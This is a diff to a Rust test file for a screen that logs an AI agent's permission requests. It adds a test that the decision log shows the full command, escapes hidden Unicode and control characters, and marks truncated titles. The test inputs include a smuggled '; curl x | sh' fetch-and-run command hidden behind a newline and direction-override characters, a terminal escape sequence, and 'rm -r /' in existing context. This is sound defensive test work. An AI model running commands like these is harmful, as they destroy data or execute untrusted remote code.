@@ -8,6 +8,7 @@ use acp_protocol::v1::{
 };
 use expect_test::{Expect, expect};
 
+use super::super::Served;
 use super::*;
 use crate::outcome::Failure;
 
@@ -36,7 +37,13 @@ impl Kept {
 fn shown(facts: Facts, act: impl FnOnce(&mut Screen<Kept, Kept>)) -> (String, String) {
     let (out, err) = (Kept::default(), Kept::default());
     let now = Instant::now();
-    let mut screen = Screen::new(out.clone(), err.clone(), facts, Box::new(|| None), now);
+    let mut screen = Screen::new(
+        ScreenWriter::to_file(out.clone()),
+        ScreenWriter::to_file(err.clone()),
+        facts,
+        Box::new(|| None),
+        now,
+    );
     screen.in_folder("/code".into());
     act(&mut screen);
     (out.text(), err.text())
@@ -201,6 +208,42 @@ fn answers_to_permission_requests_say_why() {
         said(Allow::All),
         "[asks] execute rm -r /: allowed (everything is allowed)\n"
     );
+}
+
+#[test]
+fn the_log_of_decisions_has_the_whole_command() {
+    let title = format!("ls {}\u{202e}\u{e0041}\n; curl x | sh", "-a ".repeat(1000));
+    let call = tool("t", ToolKind::Execute, &title, ToolCallStatus::Pending);
+    let facts = ToolCallState::from(&ToolCallUpdate::from(call));
+    let decision = Policy::new(Allow::All, "/").decide(&facts, &[]);
+    let (_, err) = piped(|screen| screen.permission(&facts, &decision).unwrap());
+    let whole = format!(
+        "[asks] execute ls {}\\u{{202e}}\\u{{e0041}}\\n; curl x | sh: ",
+        "-a ".repeat(1000)
+    );
+    assert!(err.starts_with(&whole), "{err}");
+    // More of a title is not kept, and that is said.
+    let call = tool(
+        "t",
+        ToolKind::Execute,
+        &"x".repeat(9000),
+        ToolCallStatus::Pending,
+    );
+    let facts = ToolCallState::from(&ToolCallUpdate::from(call));
+    let (_, err) = piped(|screen| screen.permission(&facts, &decision).unwrap());
+    assert!(
+        err.contains("x [... the rest of the title is not kept ...]: "),
+        "{err}"
+    );
+    let served = Served::Command {
+        terminal: None,
+        command: "sh".to_owned(),
+        args: vec!["-c".to_owned(), format!("{}; \u{9b}2J", ":".repeat(500))],
+        cwd: None,
+        error: None,
+    };
+    let (_, text) = served.in_words().unwrap();
+    assert_eq!(text, &*format!("sh -c {}; \\u{{9b}}2J", ":".repeat(500)));
 }
 
 #[test]
